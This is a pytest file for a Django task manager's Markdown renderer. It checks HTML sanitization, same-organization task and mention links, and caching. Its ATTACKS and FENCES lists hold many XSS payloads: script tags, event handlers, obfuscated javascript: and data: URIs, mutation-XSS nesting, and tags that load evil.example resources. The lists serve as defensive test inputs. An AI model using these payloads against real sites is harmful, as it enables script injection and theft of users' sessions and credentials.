"""Markdown as HTML: nothing dangerous survives, and links lead to what exists in the own organization."""

import re
from html.parser import HTMLParser

import pytest
from django.core.cache import cache

from taskmanager.accounts import services as accounts
from taskmanager.accounts.models import User
from taskmanager.tasks import services
from taskmanager.tasks.markdown import ATTRIBUTES, TAGS, render, render_all
from taskmanager.tasks.models import Project

pytestmark = pytest.mark.once

ATTACKS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
![pixel](https://evil.example/pixel.gif)
![pixel][p]
[p]: https://evil.example/pixel.gif
[![x](https://evil.example/pixel.gif)](javascript:alert(1))
<a href="javascript:alert(1)">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#x09;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61vascript:alert(1))
[x](<java
script:alert(1)>)
[x](\x01javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](https://ok.example "onmouseover=alert(1)")
[x](https://ok.example '" onmouseover="alert(1)')
[x](https://ok.example/"onmouseover="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,alert(1)>
<https://ok.example/"onmouseover="alert(1)>
https://ok.example/"onmouseover="alert(1)
<svg onload=alert(1)><animate onbegin=alert(1)></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<style>body{display:none}</style>
<p style="position:fixed;inset:0">x</p>
<div class="modal" id="csrf">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<iframe src="javascript:alert(1)"></iframe>
<object data="javascript:alert(1)"></object><embed src=//evil.example>
<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button>x</button></form>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<!--><script>alert(1)</script>-->
<!-- a comment --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
`<script>alert(1)</script>`
**<b onclick=alert(1)>x</b>**
# <script>alert(1)</script>
| <script>alert(1)</script> | x |
> <script>alert(1)</script>
- <script>alert(1)</script>
@ada<script>alert(1)</script>
ACME-1"><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
""".splitlines()
FENCES = [
    "```<script>\nalert(1)\n```",
    '```js" onclick="alert(1)\nx\n```',
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "| a | b |\n| :- | -: |\n| <img src=x onerror=alert(1)> | x |",
    "![pixel][p]\n\n[p]: https://evil.example/pixel.gif",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '<div\nonmouseover="alert(1)"\n>x</div>',
]


# As browsers find it: white space and control characters before it don't count, tabs and line breaks nowhere.
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Page(HTMLParser):
    """The elements of a piece of HTML, as a browser would find them, and what is wrong with them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.links: list[tuple[str, str]] = []
        self.wrong: list[str] = []
        self.open_link: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        self.wrong += [f"{tag} {name}" for name, _value in attrs if name not in {*ATTRIBUTES.get(tag, ()), "rel"}]
        if tag == "a":
            self.open_link = dict(attrs).get("href") or ""
            self.links.append((self.open_link, ""))
            scheme = SCHEME.match(re.sub(r"[\t\r\n]", "", self.open_link))
            if scheme and scheme[1].lower() not in {"http", "https", "mailto"}:
                self.wrong.append(self.open_link)

    def handle_endtag(self, tag):
        if tag == "a":
            self.open_link = None

    def handle_data(self, data):
        if self.open_link is not None:
            self.links[-1] = (self.open_link, self.links[-1][1] + data)

    def handle_comment(self, data):
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.wrong.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.wrong.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.wrong.append(f"<?{data}>")


@pytest.fixture
def links(acme):
    """Return the links, as address and text, in what a text of Acme's becomes."""
    return lambda text: Page(render(text, organization=acme)).links


@pytest.mark.parametrize("text", [*ATTACKS, *FENCES, "\n".join(ATTACKS), "\n\n".join(ATTACKS)])
def test_nothing_dangerous_survives(acme, text):
    assert Page(render(text, organization=acme)).wrong == []


def test_the_check_above_sees_what_is_dangerous():
    html = '<img src=x><a href="javascript:x" onclick=y>z</a><a href=" java&#9;script:x">z</a><!--c--><p style=x>'
    assert Page(html).wrong == [
        *("<img>", "img src", "a onclick", "javascript:x", " java\tscript:x", "<!--c-->", "p style"),
    ]


def test_html_is_shown_as_it_was_typed(acme):
    html = render("<b>bold</b>", organization=acme)
    assert html.strip() == "<p>&lt;b&gt;bold&lt;/b&gt;</p>"


def test_an_image_of_another_host_is_a_link_and_not_loaded(acme, links):
    assert "<img" not in render("![chart](https://evil.example/pixel.gif)", organization=acme)
    assert links("![chart](https://evil.example/pixel.gif)") == [("https://evil.example/pixel.gif", "chart")]


def test_markdown_is_rendered(acme):
    text = "# Why\n\n- *one*\n- **two** ~~three~~\n\n1. `x < 1`\n\n> quote\n\n| a |\n|---|\n| 2 |\n\nline\nbreak"
    html = render(text, organization=acme)
    for part in (
        *("<h1>Why</h1>", "<em>one</em>", "<strong>two</strong>", "<s>three</s>", "<code>x &lt; 1</code>"),
        *("<blockquote>", "<th>a</th>", "<td>2</td>", "line<br>"),
    ):
        assert part in html


@pytest.mark.parametrize("text", ["", " \n\t "])
def test_nothing_is_nothing(acme, text):
    assert render(text, organization=acme) == ""


def test_outside_links_lend_no_trust(acme):
    html = render("https://ok.example and [x](https://ok.example) and mail@example.com", organization=acme)
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert 'href="mailto:mail@example.com"' in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ACME-12.", [("/t/ACME-12/", "ACME-12")]),
        ("(ACME-1, ACME-2)", [("/t/ACME-1/", "ACME-1"), ("/t/ACME-2/", "ACME-2")]),
        ("**ACME-1** # ACME-2", [("/t/ACME-1/", "ACME-1"), ("/t/ACME-2/", "ACME-2")]),
        ("- ACME-1\n- ACME-2", [("/t/ACME-1/", "ACME-1"), ("/t/ACME-2/", "ACME-2")]),
        ("UTF-8 SHA-256 GLOB-1 NOPE-1", []),
        ("ACME-0 ACME-01 ACME-1234567890 ACME- acme-1 XACME-1 ACME-1a ACME-1-2 a/ACME-1", []),
    ],
)
def test_references_link_where_the_project_is_ones_own(ada, oscar, links, text, expected):
    assert links(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ask @ada", [("/accounts/people/ada/", "@ada")]),
        ("ask @ADA, or @ed!", [("/accounts/people/ada/", "@ADA"), ("/accounts/people/ed/", "@ed")]),
        ("It was @ada.", [("/accounts/people/ada/", "@ada")]),
        ("(@ed)", [("/accounts/people/ed/", "@ed")]),
        ("*@ed*", [("/accounts/people/ed/", "@ed")]),
        ("@ann_lee.b and @a+b", [("/accounts/people/ann_lee.b/", "@ann_lee.b"), ("/accounts/people/a%2Bb/", "@a+b")]),
        ("@oscar @nobody @edd @ed-x @ @@ada", []),
        ("ada@example.com me@ada", [("mailto:ada@example.com", "ada@example.com")]),
    ],
)
def test_mentions_link_where_there_is_such_a_colleague(ada, ed, oscar, member, links, text, expected):
    member("ann_lee.b")
    member("a+b")
    assert links(text) == expected


def test_code_and_links_stay_as_they_are(ada, links):
    assert links("`ACME-1 @ada`\n\n```\nACME-1 @ada\n```\n\n    ACME-1 @ada") == []
    assert links("[ACME-1 @ada](https://ok.example)") == [("https://ok.example", "ACME-1 @ada")]
    assert links("https://ok.example/@ada/ACME-1") == [("https://ok.example/@ada/ACME-1",) * 2]


def test_a_cached_text_never_shows_in_another_organization(ada, acme, oscar):
    text = "ACME-1 GLOB-1 @ada @oscar"
    own = Page(render(text, organization=acme)).links
    theirs = Page(render(text, organization=oscar.organization)).links
    assert [href for href, _text in own] == ["/t/ACME-1/", "/accounts/people/ada/"]
    assert [href for href, _text in theirs] == ["/t/GLOB-1/", "/accounts/people/oscar/"]
    assert Page(render(text, organization=acme)).links == own


def test_a_cached_text_follows_people_and_projects(acme, ada, ed, member, links):
    text = "@ed @bo WEB-1"
    assert links(text) == [("/accounts/people/ed/", "@ed")]
    member("bo")
    services.create_project(acme, name="Web", key="WEB")
    assert [shown for _href, shown in links(text)] == ["@ed", "@bo", "WEB-1"]
    User.objects.filter(pk=ed.pk).update(username="Ed")
    assert links(text)[0] == ("/accounts/people/Ed/", "@ed")
    User.objects.filter(pk=ed.pk).update(username="edward")
    Project.objects.filter(key="WEB").update(key="NET")
    assert [shown for _href, shown in links(text)] == ["@bo"]


def test_a_cached_text_costs_a_query_for_each_kind_of_link_in_it(ada, acme, links, django_assert_num_queries):
    for text, queries in (("Plain *text*", 0), ("ACME-1 ACME-2", 1), ("@ada @ed", 1), ("ACME-1 @ada", 2)):
        first = render(text, organization=acme)
        with django_assert_num_queries(queries):
            assert render(text, organization=acme) == first


def test_many_texts_cost_two_queries_and_are_as_if_rendered_alone(ada, ed, acme, django_assert_num_queries):
    texts = ["", "Plain", "ACME-1", "@ada", "@ed and ACME-2", "@nobody", "Plain", " ", *ATTACKS]
    alone = [render(text, organization=acme) for text in texts]
    with django_assert_num_queries(2):
        assert render_all(texts, organization=acme) == alone
    cache.clear()
    with django_assert_num_queries(2):
        assert render_all(texts, organization=acme) == alone
    with django_assert_num_queries(0):
        assert render_all([], organization=acme) == []


def test_the_same_people_elsewhere_do_not_share_the_cache(ada, oscar, acme):
    accounts.add_member(oscar.organization, username="ada", email="ada@globex.example", password=None, roles=[])
    assert "/accounts/people/ada/" in render("@ada", organization=oscar.organization)
    User.objects.of(oscar.organization).filter(username="ada").delete()
    assert "owner" not in render("@ada", organization=oscar.organization)
    assert "/accounts/people/ada/" in render("@ada", organization=acme)
